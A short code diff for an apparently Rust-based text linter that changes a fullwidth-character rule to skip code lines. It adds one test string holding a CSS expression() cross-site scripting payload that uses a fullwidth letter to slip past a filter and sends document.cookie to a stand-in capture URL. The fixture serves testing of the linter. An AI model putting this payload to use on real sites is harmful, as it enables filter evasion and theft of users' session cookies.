@@ -55,6 +55,7 @@ the letter check compares, so no letter is lost.",
         },
     ],
     keeps: &[
+        "The filter let this through:\n\n  top: expressｉon(new Image().src='http://www.example.com/capture?'+document.cookie);\n",
         "使用ＧＰＴ模型进行测试。",
         "ＡＢＣ株式会社が発表した。",
         "「ＰＯＰＯＰＯ！」",
@@ -97,6 +98,9 @@ impl Rule for FullwidthAlphanumerics {
                 // `=JIS("LibreOffice") returns "ＬｉｂｒｅＯｆｆｉｃｅ"`: a
                 // quoted run alone is a literal shown in its width.
                 || crate::text::between_quotes(text, Span::new(m.start(), m.end()))
+                // `top: expressｉon(…)`: a wide letter in code is typed on
+                // purpose, to slip past a filter.
+                || doc.in_code_line(m.start())
             {
                 continue;
             }
